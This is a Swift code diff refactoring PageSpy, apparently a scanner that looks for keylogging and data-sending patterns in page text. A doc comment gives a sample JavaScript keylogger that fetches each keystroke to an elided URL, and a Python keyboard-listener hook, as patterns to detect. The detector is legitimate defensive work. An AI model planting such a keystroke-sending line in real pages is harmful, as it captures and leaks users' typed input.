@@ -10,10 +10,13 @@ enum PageSpy {
 
   static func range(in inspection: Inspection) -> Range<Int>? {
     let survey = inspection.layers.given.survey
-    return style(in: inspection.text)
-      ?? (survey.traits.hasCall ? form(in: inspection.text) ?? card(in: inspection.text) : nil)
-      ?? (survey.traits.hasCall && survey.nextAddress(in: inspection.text, from: 0) != nil
-        ? handler(in: inspection.text) : nil)
+    let text = inspection.text
+    if let style = style(in: text) { return style }
+    guard survey.traits.hasCall else { return nil }
+    // Most pages have no field that is read.
+    let readsFields = text.contains(".value")
+    if let sent = form(in: text) ?? (readsFields ? card(in: text) : nil) { return sent }
+    return survey.nextAddress(in: text, from: 0) != nil ? handler(in: text, readsFields) : nil
   }
 
   // MARK: Styles
@@ -87,9 +90,8 @@ enum PageSpy {
   // MARK: Scripts
 
   /// `addEventListener('keydown', e => fetch('https://…/?k=' + e.key))`, `keyboard.Listener(on_press=…)`
-  private static func handler(in text: ByteView) -> Range<Int>? {
-    // Most pages have no field that is read.
-    for (word, keys) in text.contains(".value") ? words + forms : words {
+  private static func handler(in text: ByteView, _ readsFields: Bool) -> Range<Int>? {
+    for (word, keys) in readsFields ? words + forms : words {
       var at = 0
       for _ in 0..<mostLooks {
         guard let place = text.firstRange(of: word, from: at) else { break }
